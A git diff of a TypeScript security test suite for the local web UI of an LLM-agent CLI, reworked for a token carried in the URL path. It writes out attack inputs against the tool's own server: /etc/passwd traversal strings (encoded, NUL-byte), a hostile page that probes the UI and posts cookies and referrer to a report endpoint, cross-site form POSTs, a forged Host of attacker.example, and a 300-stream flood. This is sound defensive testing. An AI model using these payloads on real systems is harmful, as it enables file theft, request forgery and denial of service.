@@ -1,4 +1,10 @@
-import { createServer, type Server } from 'node:http';
+import {
+  type ClientRequest,
+  createServer,
+  type IncomingMessage,
+  request as httpRequest,
+  type Server,
+} from 'node:http';
 import { readFileSync } from 'node:fs';
 import { join } from 'node:path';
 import { launchChromium } from '../test/cli/support/chromium.ts';
@@ -23,14 +29,20 @@ import {
  * hundreds of event streams, a run with one enormous record. Nothing may start a revive but the
  * ui's own page, nothing may read a file outside the tree, nothing from a transcript may run
  * as script, and no request may stall the others.
+ *
+ * The ui's token is the first segment of every path (`http://127.0.0.1:PORT/TOKEN/…`): the
+ * attacks that play the user's own page use that URL; those that play an attacker know only
+ * the origin, or the token without the page's other means (its header, its Origin, its Host).
  */
 
 interface Ui {
   cli: CliChild;
-  /** The URL printed, as given (with whatever it authorises). */
+  /** The URL printed, `http://127.0.0.1:PORT/TOKEN/`: every page of the ui is below it. */
   url: string;
   /** Its origin: http://127.0.0.1:PORT. */
   base: string;
+  /** The token: the URL's first path segment. */
+  token: string;
   transcript: string;
 }
 
@@ -40,7 +52,8 @@ async function startUi(context: AttackContext, bodies = interruptedRun()): Promi
   await writeTranscript(transcript, bodies);
   const cli = startCli(['ui', 'runs', '--agents', AGENTS_MODULE], context.folder);
   const url = await printedUrl(cli, 60_000);
-  return { cli, url, base: new URL(url).origin, transcript };
+  const parsed = new URL(url);
+  return { cli, url, base: parsed.origin, token: parsed.pathname.split('/')[1] ?? '', transcript };
 }
 
 async function stopUi(ui: Ui | undefined): Promise<void> {
@@ -51,22 +64,17 @@ async function stopUi(ui: Ui | undefined): Promise<void> {
   clearTimeout(timer);
 }
 
-/** The page's own token and cookies, as the ui's page gets them by opening the printed URL. */
-async function pageSession(ui: Ui): Promise<{ cookie: string; token: string }> {
+/** The token the ui's page carries for a Confirm (its meta tag), as the page gets it. */
+async function pageToken(ui: Ui): Promise<string> {
   const reply = await send(ui.url);
-  const cookie = [reply.headers['set-cookie'] ?? []]
-    .flat()
-    .map((line) => line.split(';')[0])
-    .join('; ');
-  const token = /<meta name="llm-agent-token" content="([^"]*)"/.exec(reply.body)?.[1] ?? '';
-  return { cookie, token };
+  return /<meta name="llm-agent-token" content="([^"]*)"/.exec(reply.body)?.[1] ?? '';
 }
 
-/** The link of the tree page to the run `main` (its path as the tree names it). */
-async function runHref(ui: Ui, session: { cookie: string }): Promise<string> {
-  const tree = await send(`${ui.base}/`, { headers: { Cookie: session.cookie } });
-  const href = /href="(\/run\?path=[^"]*main\.jsonl)"/.exec(tree.body)?.[1];
-  return (href ?? '/run?path=main.jsonl').replaceAll('&amp;', '&');
+/** The full URL of the run `main`, from the tree page's own (relative) link to it. */
+async function runUrl(ui: Ui): Promise<string> {
+  const tree = await send(ui.url);
+  const href = /href="(run\?path=[^"]*main\.jsonl)"/.exec(tree.body)?.[1];
+  return `${ui.url}${(href ?? 'run?path=main.jsonl').replaceAll('&amp;', '&')}`;
 }
 
 function listen(server: Server): Promise<number> {
@@ -88,64 +96,151 @@ function peakMb(pid: number | undefined): number {
   }
 }
 
+/** What a server on another port received: each request's path and headers, and its body. */
+interface Received {
+  url: string;
+  headers: IncomingMessage['headers'];
+  body: string;
+}
+
+/** A server on 127.0.0.1 that records every request and answers as `answer` says. */
+function recordingServer(
+  answer: (url: string) => { status?: number; headers: Record<string, string>; body: string },
+): { server: Server; received: Received[] } {
+  const received: Received[] = [];
+  const server = createServer((request, response) => {
+    let body = '';
+    request.setEncoding('utf8').on('data', (chunk: string) => {
+      body += chunk;
+    });
+    request.on('end', () => {
+      const url = request.url ?? '/';
+      received.push({ url, headers: request.headers, body });
+      const { status = 200, headers, body: text } = answer(url);
+      response.writeHead(status, headers);
+      response.end(text);
+    });
+  });
+  return { server, received };
+}
+
+/**
+ * The page of another local server: it frames the ui, reads what it can of it, posts to it
+ * every way a page can, and reports what it saw (its cookies, its referrer, the frame).
+ */
+function hostilePage(uiBase: string): string {
+  return `<!doctype html><title>another local server</title>
+<iframe id="frame" src="${uiBase}/"></iframe>
+<script>
+(async () => {
+  const tries = [];
+  for (const path of ['/', '/revive', '/events', '/app.js']) {
+    try {
+      const reply = await fetch('${uiBase}' + path, { method: path === '/revive' ? 'POST' : 'GET', mode: 'no-cors', credentials: 'include' });
+      tries.push(path + ': ' + reply.type);
+    } catch (error) { tries.push(path + ': ' + error); }
+  }
+  await new Promise((done) => setTimeout(done, 500));
+  let framed;
+  try { framed = String(document.getElementById('frame').contentDocument?.body?.innerHTML); } catch (error) { framed = 'blocked'; }
+  await fetch('/report', { method: 'POST', body: JSON.stringify({ cookie: document.cookie, referrer: document.referrer, tries, framed }) });
+})();
+</script>`;
+}
+
+/** Every value a request carried that could be a secret: cookie values, the referrer, the path. */
+function carriedValues(received: Received[]): Set<string> {
+  const values = new Set<string>();
+  for (const request of received) {
+    for (const pair of String(request.headers.cookie ?? '').split(';')) {
+      const value = pair.slice(pair.indexOf('=') + 1).trim();
+      if (value !== '') values.add(value);
+    }
+    for (const part of `${request.headers.referer ?? ''}/${request.url}`.split(/[/?&=#]/)) {
+      if (part.length >= 16) values.add(part);
+    }
+  }
+  return values;
+}
+
 const tokenToOtherPort: Attack = {
   name: 'ui-token-to-other-port',
   family: 'ui',
-  full: true,
   awaits: 'ui',
-  what: 'the user opens the ui in Chromium, then a page served by another process on another port of 127.0.0.1: what that server receives must neither read the ui nor start a revive',
+  what: "in Chromium, with the ui's page open, the user follows a link from it to a page of another local port, which frames the ui, fetches and posts to it, and redirects to it: that server learns nothing (no cookie of the ui, no Referer, no token) and a plain client replaying all it got starts nothing",
   timeoutMs: 180_000,
   async run(context) {
     let ui: Ui | undefined;
-    const received: string[] = [];
-    const other = createServer((request, response) => {
-      received.push(request.headers.cookie ?? '');
-      response.writeHead(200, { 'content-type': 'text/html' });
-      response.end('<!doctype html><title>another local server</title><p>hello');
+    const canary = createServer((_request, response) => {
+      response.writeHead(200, {
+        'Content-Type': 'text/html',
+        'Set-Cookie': 'canary=from_another_port; Path=/',
+      });
+      response.end('<p>canary</p>');
     });
+    let uiBase = '';
+    const hostile = recordingServer((url) =>
+      url === '/'
+        ? { headers: { 'Content-Type': 'text/html' }, body: hostilePage(uiBase) }
+        : url === '/bounce'
+          ? { status: 302, headers: { Location: `${uiBase}/` }, body: '' }
+          : { headers: { 'Content-Type': 'text/plain' }, body: 'ok' },
+    );
     const browser = await launchChromium();
     try {
       ui = await startUi(context);
-      const otherPort = await listen(other);
+      uiBase = ui.base;
+      const canaryPort = await listen(canary);
+      const otherPort = await listen(hostile.server);
       const page = await browser.newPage();
+      await page.goto(`http://127.0.0.1:${canaryPort}/`);
       const shown = await page.goto(ui.url);
       if (shown?.status() !== 200) return faultNotProven(`the ui page answered ${shown?.status()}`);
-      await page.goto(`http://127.0.0.1:${otherPort}/`);
-      if (received.length === 0) return faultNotProven('the browser never reached the other port');
-      const pairs = received
-        .flatMap((header) => header.split(';'))
-        .map((pair) => pair.trim())
-        .filter((pair) => pair !== '');
+      // The user follows a link from the ui's page to the other server (a link in a transcript).
+      await page.evaluate(
+        `(() => { const link = document.createElement('a'); link.href = 'http://127.0.0.1:${otherPort}/'; document.body.append(link); link.click(); })()`,
+      );
+      for (let waited = 0; !hostile.received.some((r) => r.url === '/report'); waited += 100) {
+        if (waited > 20_000) return faultNotProven('the page of the other port never reported');
+        await sleep(100);
+      }
+      const bounced = await page.goto(`http://127.0.0.1:${otherPort}/bounce`);
+      const report = JSON.parse(
+        hostile.received.find((r) => r.url === '/report')?.body ?? '{}',
+      ) as { cookie?: string; referrer?: string; tries?: string[]; framed?: string };
+      // The fault: this browser sends one port's cookies to another.
+      if (!/canary=from_another_port/.test(String(hostile.received[0]?.headers.cookie)))
+        return faultNotProven("the browser did not send another port's cookie");
+      const everything = JSON.stringify({ received: hostile.received, report });
+      const leaked = everything.includes(ui.token);
       const tries: string[] = [];
-      for (const pair of pairs) {
-        const value = pair.slice(pair.indexOf('=') + 1);
-        const post = await send(`${ui.base}/revive`, {
-          method: 'POST',
-          headers: { Cookie: pair, 'X-LLM-Agent-Token': value },
-        });
-        tries.push(`POST with ${pair.split('=')[0]}: ${post.status}`);
-        const got = await send(`${ui.base}/`, { headers: { Cookie: pair } });
-        tries.push(`GET / with it: ${got.status}`);
-        const metaToken = /<meta name="llm-agent-token" content="([^"]*)"/.exec(got.body)?.[1];
-        if (got.status === 200 && metaToken !== undefined) {
-          const second = await send(`${ui.base}/revive`, {
-            method: 'POST',
-            headers: { Cookie: pair, 'X-LLM-Agent-Token': metaToken },
-          });
-          tries.push(`POST with the page's token: ${second.status}`);
+      for (const value of carriedValues(hostile.received)) {
+        for (const [path, headers] of [
+          ['/revive', { Cookie: `llm_agent_ui=${value}`, 'X-LLM-Agent-Token': value }],
+          [`/${encodeURIComponent(value)}/revive`, { 'X-LLM-Agent-Token': value }],
+          [`/${encodeURIComponent(value)}/`, {}],
+        ] as const) {
+          const method = path.endsWith('revive') ? 'POST' : 'GET';
+          const reply = await send(`${ui.base}${path}`, { method, headers });
+          if (reply.status < 400) tries.push(`${method} ${path.slice(0, 24)}…: ${reply.status}`);
         }
       }
-      await sleep(2000);
+      await sleep(1500);
       const revived = revivedCount(ui.transcript);
-      const started = tries.some((line) => / 20\d$/.test(line) && line.startsWith('POST'));
-      const readPage = tries.some((line) => line.startsWith('GET') && line.endsWith(' 200'));
+      // The first request is the one the ui's page sent, following its link.
+      const fromUi = hostile.received[0]?.headers.referer ?? 'none';
       return verdict(
-        !started && !readPage && revived === 0,
-        `the other port received ${pairs.length} cookie(s) (${pairs.map((pair) => pair.split('=')[0]).join(', ') || 'none'}); ${tries.join('; ') || 'nothing to try'}; run-revived records: ${revived}`,
+        !leaked &&
+          fromUi === 'none' &&
+          tries.length === 0 &&
+          revived === 0 &&
+          (bounced?.status() ?? 0) >= 400,
+        `the other port got ${hostile.received.length} requests with its cookie canary (the one from the ui's link with Referer: ${fromUi}), the token ${leaked ? 'LEAKED' : 'in none'}; its page: ${report.tries?.join(', ')}, the framed ui read as ${JSON.stringify(report.framed ?? '').slice(0, 40)}; a redirect to the ui's origin lands on ${bounced?.status()}; replays that got in: ${tries.join('; ') || 'none'}; run-revived records: ${revived}`,
       );
     } finally {
       await browser.close();
-      other.close();
+      canary.close();
+      hostile.server.close();
       await stopUi(ui);
     }
   },
@@ -154,9 +249,8 @@ const tokenToOtherPort: Attack = {
 const hugeRecord: Attack = {
   name: 'ui-huge-record',
   family: 'ui',
-  full: true,
   awaits: 'ui',
-  what: "a run whose one tool result is 48 MB: while its page is asked for (in four tabs' worth of requests), a 3 KB script is still served at once and the server's memory stays bounded",
+  what: "a run whose one tool result is 48 MB: while its page is asked for in four tabs at once and its whole value is downloaded, the tree page and a 3 KB script are still served at once, the pages hold the value folded, and the server's memory does not grow with the tabs",
   timeoutMs: 240_000,
   alone: true,
   async run(context) {
@@ -184,36 +278,49 @@ const hugeRecord: Attack = {
     let ui: Ui | undefined;
     try {
       ui = await startUi(context, bodies);
-      const session = await pageSession(ui);
-      const headers = { Cookie: session.cookie };
-      const timed = async (path: string) => {
+      const timed = async (url: string) => {
         const began = performance.now();
-        const reply = await send(`${ui?.base}${path}`, { headers });
+        const reply = await send(url).catch(() => ({ status: 0, body: '' }));
         return {
           status: reply.status,
           ms: Math.round(performance.now() - began),
-          bytes: reply.body.length,
+          body: reply.body,
         };
       };
-      const baseline = await timed('/app.js');
-      const runPage = await runHref(ui, session);
-      const pages = [0, 1, 2, 3].map(() =>
-        timed(runPage).catch(() => ({ status: 0, ms: 0, bytes: 0 })),
-      );
-      await sleep(200);
-      const during = await timed('/app.js');
-      const rendered = await Promise.all(pages);
-      const peak = peakMb(ui.cli.child.pid);
+      const baseline = await timed(`${ui.url}app.js`);
+      const runPage = await runUrl(ui);
+      const afterTree = peakMb(ui.cli.child.pid);
+      const first = await timed(runPage);
+      const afterPage = peakMb(ui.cli.child.pid);
+      const valueHref = /href="(value\?[^"]*)"/.exec(first.body)?.[1]?.replaceAll('&amp;', '&');
+      // The fault: the record is there, whole, and the page drew the run with it.
       if (readFileSync(ui.transcript).length < megabytes * 1_000_000)
         return faultNotProven('the transcript does not hold the huge record');
+      if (first.status !== 200 || valueHref === undefined)
+        return faultNotProven(`the run page answered ${first.status} without the value's link`);
+      const pages = [0, 1, 2, 3].map(() => timed(runPage));
+      const whole = timed(`${ui.url}${valueHref}`);
+      await sleep(200);
+      const during = await timed(`${ui.url}app.js`);
+      const tree = await timed(ui.url);
+      const rendered = await Promise.all(pages);
+      const value = await whole;
+      const peak = peakMb(ui.cli.child.pid);
+      // Asking again, in four tabs and for the whole value, must not multiply what one page
+      // costs (it did: 4 tabs, 1.4 GB): at most the value's own copies on top, and never
+      // past 1 GB (what one page of this run cost before it was drawn in a worker).
+      const bound = Math.min(afterPage + 3 * megabytes, 1000);
       const held =
         during.status === 200 &&
         during.ms <= baseline.ms + 1000 &&
-        peak <= 500 &&
-        rendered.every((reply) => reply.status === 200);
+        tree.status === 200 &&
+        tree.ms <= 3000 &&
+        peak <= bound &&
+        value.body.length === megabytes * 1_000_000 &&
+        rendered.every((reply) => reply.status === 200 && reply.body.length < 2_000_000);
       return verdict(
         held,
-        `${megabytes} MB record: /app.js alone ${baseline.ms} ms, while 4 run pages render ${during.ms} ms; run pages ${rendered.map((reply) => `${reply.status} in ${reply.ms} ms`).join(', ')}; ui peak RSS ${peak} MB`,
+        `${megabytes} MB record: /app.js alone ${baseline.ms} ms, while 4 run pages render and the value downloads ${during.ms} ms, the tree page ${tree.status} in ${tree.ms} ms; run pages ${rendered.map((reply) => `${reply.status} (${Math.round(reply.body.length / 1000)} kB) in ${reply.ms} ms`).join(', ')}; the whole value ${value.status}, ${Math.round(value.body.length / 1e6)} MB in ${value.ms} ms; ui peak RSS ${afterTree} MB after the tree, ${afterPage} MB after one run page, ${peak} MB at the end (bound ${bound})`,
       );
     } finally {
       await stopUi(ui);
@@ -229,20 +336,20 @@ const dnsRebinding: Attack = {
     let ui: Ui | undefined;
     try {
       ui = await startUi(context);
-      const session = await pageSession(ui);
+      const token = await pageToken(ui);
       const port = new URL(ui.base).port;
       const host = `attacker.example:${port}`;
       const get = await send(ui.url, { headers: { Host: host } });
-      const post = await send(`${ui.base}/revive`, {
+      const post = await send(`${ui.url}revive`, {
         method: 'POST',
-        headers: { Host: host, Cookie: session.cookie, 'X-LLM-Agent-Token': session.token },
+        headers: { Host: host, 'X-LLM-Agent-Token': token },
       });
       const own = await send(ui.url);
       if (own.status !== 200) return faultNotProven(`the ui's own URL answered ${own.status}`);
       await sleep(1000);
       return verdict(
         get.status >= 400 && post.status >= 400 && revivedCount(ui.transcript) === 0,
-        `Host ${host}: GET ${get.status}, POST /revive ${post.status} (own Host: ${own.status}); run-revived records: ${revivedCount(ui.transcript)}`,
+        `Host ${host}: GET ${get.status}, POST /TOKEN/revive ${post.status} (own Host: ${own.status}); run-revived records: ${revivedCount(ui.transcript)}`,
       );
     } finally {
       await stopUi(ui);
@@ -254,7 +361,7 @@ const crossSiteRevive: Attack = {
   name: 'ui-cross-site-revive',
   family: 'ui',
   full: true,
-  what: "a page on another port posts a form to /revive after the user opened the ui, and plain requests carry the page's token from a foreign Origin: nothing starts",
+  what: "a page on another port that knows the ui's URL posts a form to its /revive after the user opened the ui, and plain requests carry the page's token from a foreign Origin or without its header: nothing starts",
   timeoutMs: 180_000,
   async run(context) {
     let ui: Ui | undefined;
@@ -262,12 +369,12 @@ const crossSiteRevive: Attack = {
     const attacker = createServer((_request, response) => {
       response.writeHead(200, { 'content-type': 'text/html' });
       response.end(
-        `<!doctype html><form id=f method=POST action="${ui?.base}/revive"><input name=x value=1></form><script>document.getElementById('f').submit()</script>`,
+        `<!doctype html><form id=f method=POST action="${ui?.url}revive"><input name=x value=1></form><script>document.getElementById('f').submit()</script>`,
       );
     });
     try {
       ui = await startUi(context);
-      const session = await pageSession(ui);
+      const token = await pageToken(ui);
       const port = await listen(attacker);
       const page = await browser.newPage();
       if ((await page.goto(ui.url))?.status() !== 200) return faultNotProven('the ui did not load');
@@ -276,25 +383,18 @@ const crossSiteRevive: Attack = {
         if (response.url().endsWith('/revive')) formAnswer = response.status();
       });
       await page.goto(`http://127.0.0.1:${port}/`);
-      await page.waitForURL(`${ui.base}/revive`, { timeout: 15_000 }).catch(() => undefined);
+      await page.waitForURL(`${ui.url}revive`, { timeout: 15_000 }).catch(() => undefined);
       if (formAnswer === 0) return faultNotProven('the form never reached /revive');
-      const foreign = await send(`${ui.base}/revive`, {
+      const foreign = await send(`${ui.url}revive`, {
         method: 'POST',
-        headers: {
-          Origin: 'http://attacker.example',
-          Cookie: session.cookie,
-          'X-LLM-Agent-Token': session.token,
-        },
+        headers: { Origin: 'http://attacker.example', 'X-LLM-Agent-Token': token },
       });
-      const cookieOnly = await send(`${ui.base}/revive`, {
-        method: 'POST',
-        headers: { Cookie: session.cookie },
-      });
+      const pathOnly = await send(`${ui.url}revive`, { method: 'POST' });
       await sleep(1500);
       const revived = revivedCount(ui.transcript);
       return verdict(
-        formAnswer >= 400 && foreign.status >= 400 && cookieOnly.status >= 400 && revived === 0,
-        `form from another port: ${formAnswer}; token from a foreign Origin: ${foreign.status}; the cookie alone: ${cookieOnly.status}; run-revived records: ${revived}`,
+        formAnswer >= 400 && foreign.status >= 400 && pathOnly.status >= 400 && revived === 0,
+        `form from another port: ${formAnswer}; token from a foreign Origin: ${foreign.status}; the URL without the header: ${pathOnly.status}; run-revived records: ${revived}`,
       );
     } finally {
       await browser.close();
@@ -304,39 +404,62 @@ const crossSiteRevive: Attack = {
   },
 };
 
+/** A GET whose path is sent as written (no client folds its `..` away). */
+function rawGet(base: string, path: string): Promise<{ status: number; body: string }> {
+  const { hostname, port } = new URL(base);
+  return new Promise((resolve) => {
+    const request = httpRequest({ host: hostname, port, path, timeout: 10_000 }, (response) => {
+      let body = '';
+      response.setEncoding('utf8').on('data', (chunk: string) => {
+        body += chunk;
+      });
+      response.on('end', () => resolve({ status: response.statusCode ?? 0, body }));
+    });
+    request.on('timeout', () => request.destroy());
+    request.on('error', () => resolve({ status: 0, body: '' }));
+    request.end();
+  });
+}
+
 const pathTraversal: Attack = {
   name: 'ui-path-traversal',
-  // Written for the cookie scheme; the web view now keeps its token in the path (/TOKEN/):
-  // held out of the quick form until it is rewritten for that.
-  full: true,
   family: 'ui',
-  what: 'run paths and URLs that climb out of the tree (../, encoded, absolute): never a file outside it',
+  what: 'run and value paths and URLs below the token that climb out of the tree (../, encoded, absolute, a NUL), at /etc/passwd and at a run beside the tree: never a file outside it',
   async run(context) {
     let ui: Ui | undefined;
     try {
+      const secret = join(context.folder, 'outside', 'secret.jsonl');
+      await writeTranscript(secret, interruptedRun({ label: 'SECRET-OUTSIDE-THE-TREE' }));
       ui = await startUi(context);
-      const session = await pageSession(ui);
-      const headers = { Cookie: session.cookie };
+      const t = `/${ui.token}`;
       const paths = [
-        '/run?path=../../../../etc/passwd',
-        '/run?path=%2Fetc%2Fpasswd',
-        '/run?path=..%2F..%2F..%2Fetc%2Fpasswd',
+        `${t}/run?path=../../../../etc/passwd`,
+        `${t}/run?path=%2Fetc%2Fpasswd`,
+        `${t}/run?path=..%2F..%2F..%2Fetc%2Fpasswd`,
+        `${t}/run?path=${encodeURIComponent(secret)}`,
+        `${t}/run?path=..%2Foutside%2Fsecret.jsonl`,
+        `${t}/run?path=runs%2F..%2Foutside%2Fsecret.jsonl`,
+        `${t}/value?path=${encodeURIComponent(secret)}&seq=1&part=0`,
+        `${t}/value?path=%2Fetc%2Fpasswd&seq=1&part=0`,
+        `${t}/../../../../etc/passwd`,
+        `${t}/%2e%2e/%2e%2e/%2e%2e/etc/passwd`,
+        `${t}/..%2f..%2f..%2fetc%2fpasswd`,
         '/../../../../etc/passwd',
-        '/%2e%2e/%2e%2e/%2e%2e/etc/passwd',
-        '/run?path=main.jsonl%00../../etc/passwd',
+        `${t}/run?path=main.jsonl%00../../etc/passwd`,
       ];
       const seen: string[] = [];
       let leaked = false;
       for (const path of paths) {
-        const reply = await send(`${ui.base}${path}`, { headers });
-        leaked ||= /root:x?:0:0/.test(reply.body);
-        seen.push(`${path} → ${reply.status}`);
+        const reply = await rawGet(ui.base, path);
+        leaked ||= /root:x?:0:0/.test(reply.body) || reply.body.includes('SECRET-OUTSIDE');
+        seen.push(`${path.replace(ui.token, 'TOKEN').slice(0, 60)} → ${reply.status}`);
       }
-      const own = await send(`${ui.base}${await runHref(ui, session)}`, { headers });
-      if (own.status !== 200) return faultNotProven(`the run's own page answered ${own.status}`);
+      const own = await send(await runUrl(ui));
+      if (own.status !== 200 || !own.body.includes('main'))
+        return faultNotProven(`the run's own page answered ${own.status}`);
       return verdict(
         !leaked,
-        `${seen.join('; ')}; ${leaked ? '/etc/passwd LEAKED' : 'nothing outside the tree served'}`,
+        `${seen.join('; ')}; ${leaked ? 'a file outside the tree LEAKED' : 'nothing outside the tree served'} (the run's own page: ${own.status})`,
       );
     } finally {
       await stopUi(ui);
@@ -378,7 +501,7 @@ const scriptInTranscript: Attack = {
       await page.goto(ui.url);
       const html = await page.content();
       if (!html.includes('onerror')) return faultNotProven('the payload is not on the page');
-      await page.goto(`${ui.base}${await runHref(ui, await pageSession(ui))}`);
+      await page.goto(await runUrl(ui));
       await sleep(500);
       const pwned = await page.evaluate(() => (globalThis as { __pwned?: number }).__pwned ?? null);
       return verdict(
@@ -394,45 +517,34 @@ const scriptInTranscript: Attack = {
 
 const eventFlood: Attack = {
   name: 'ui-event-stream-flood',
-  // Written for the cookie scheme; the web view now keeps its token in the path (/TOKEN/):
-  // held out of the quick form until it is rewritten for that.
-  full: true,
   family: 'ui',
   what: '300 event streams held open at once: the page is still served promptly and the ui stays up',
   async run(context) {
     let ui: Ui | undefined;
-    const streams: import('node:http').ClientRequest[] = [];
+    const streams: ClientRequest[] = [];
     try {
       ui = await startUi(context);
-      const session = await pageSession(ui);
       const baselineStart = performance.now();
-      await send(`${ui.base}/`, { headers: { Cookie: session.cookie } });
+      await send(ui.url);
       const baseline = performance.now() - baselineStart;
-      const { request } = await import('node:http');
       let opened = 0;
       for (let index = 0; index < 300; index++) {
-        const stream = request(
-          `${ui.base}/events`,
-          { headers: { Cookie: session.cookie } },
-          (response) => {
-            if (response.statusCode === 200) opened += 1;
-            response.resume();
-          },
-        );
+        const stream = httpRequest(`${ui.url}events`, (response) => {
+          if (response.statusCode === 200) opened += 1;
+          response.resume();
+        });
         stream.on('error', () => undefined);
         stream.end();
         streams.push(stream);
       }
-      await sleep(2000);
+      for (let waited = 0; opened < 300 && waited < 5000; waited += 100) await sleep(100);
       if (opened === 0) return faultNotProven('no event stream opened');
       const began = performance.now();
-      const reply = await send(`${ui.base}/`, { headers: { Cookie: session.cookie } }).catch(
-        () => ({ status: 0 }),
-      );
+      const reply = await send(ui.url).catch(() => ({ status: 0 }));
       const ms = performance.now() - began;
       return verdict(
         reply.status === 200 && ms <= baseline + 5000 && ui.cli.child.exitCode === null,
-        `${opened} of 300 streams open; / answered ${reply.status} in ${Math.round(ms)} ms (alone ${Math.round(baseline)} ms); ui ${ui.cli.child.exitCode === null ? 'up' : 'gone'}`,
+        `${opened} of 300 streams open; the page answered ${reply.status} in ${Math.round(ms)} ms (alone ${Math.round(baseline)} ms); ui ${ui.cli.child.exitCode === null ? 'up' : 'gone'}`,
       );
     } finally {
       for (const stream of streams) stream.destroy();
@@ -444,45 +556,55 @@ const eventFlood: Attack = {
 const noToken: Attack = {
   name: 'ui-forged-token',
   family: 'ui',
-  what: 'every route without the token, with a forged one of the same length, with the token in another header: refused',
+  what: 'every route without the token, with a forged one of the same length (in the path, a cookie, the header), with the token in another header or the query: refused',
   async run(context) {
     let ui: Ui | undefined;
     try {
       ui = await startUi(context);
-      const session = await pageSession(ui);
-      if (session.token === '' && session.cookie === '')
-        return faultNotProven('the ui gave no session');
-      const forged = (session.token || 'a'.repeat(64)).replace(/./g, (character) =>
-        character === 'a' ? 'b' : 'a',
-      );
+      const token = await pageToken(ui);
+      if (token !== ui.token) return faultNotProven('the page holds no token, or another');
+      const forged = token.replace(/./g, (character) => (character === 'a' ? 'b' : 'a'));
+      const run = (await runUrl(ui)).slice(ui.url.length);
       const seen: string[] = [];
       let leaked = false;
-      for (const path of ['/', '/app.js', '/events', await runHref(ui, session)]) {
-        for (const [label, headers] of [
-          ['none', {}],
-          ['forged cookie', { Cookie: session.cookie.replace(/=[^;]*/g, `=${forged}`) }],
-          ['forged header', { 'X-LLM-Agent-Token': forged }],
-          ['token as Authorization', { Authorization: `Bearer ${session.token}` }],
-        ] as [string, Record<string, string>][]) {
+      for (const route of ['', 'app.js', 'events', run]) {
+        for (const [label, url, headers] of [
+          ['no token', `${ui.base}/${route}`, {}],
+          ['forged path', `${ui.base}/${forged}/${route}`, {}],
+          ['forged cookie', `${ui.base}/${route}`, { Cookie: `llm_agent_ui=${forged}` }],
+          ['the token as a cookie', `${ui.base}/${route}`, { Cookie: `llm_agent_ui=${token}` }],
+          [
+            'the token as Authorization',
+            `${ui.base}/${route}`,
+            { Authorization: `Bearer ${token}` },
+          ],
+          [
+            'the token in the query',
+            `${ui.base}/${route}${route.includes('?') ? '&' : '?'}token=${token}`,
+            {},
+          ],
+        ] as [string, string, Record<string, string>][]) {
           const reply = await new Promise<{ status: number }>((resolve) => {
-            void send(`${ui?.base}${path}`, { headers }).then(resolve, () =>
-              resolve({ status: 0 }),
-            );
+            void send(url, { headers }).then(resolve, () => resolve({ status: 0 }));
             setTimeout(() => resolve({ status: -1 }), 3000);
           });
           if (reply.status === 200) {
             leaked = true;
-            seen.push(`${path} with ${label}: 200`);
+            seen.push(`/${route} with ${label}: 200`);
           }
         }
       }
-      const post = await send(`${ui.base}/revive`, {
+      const post = await send(`${ui.base}/${forged}/revive`, {
+        method: 'POST',
+        headers: { 'X-LLM-Agent-Token': forged },
+      });
+      const wrongHeader = await send(`${ui.url}revive`, {
         method: 'POST',
         headers: { 'X-LLM-Agent-Token': forged },
       });
       return verdict(
-        !leaked && post.status >= 400,
-        `${leaked ? seen.join('; ') : 'every route refused without the token'}; POST /revive with a forged token: ${post.status}`,
+        !leaked && post.status >= 400 && wrongHeader.status >= 400,
+        `${leaked ? seen.join('; ') : 'every route refused without the token in its path'}; POST /revive with a forged token: ${post.status}; the right path with a forged header: ${wrongHeader.status}`,
       );
     } finally {
       await stopUi(ui);
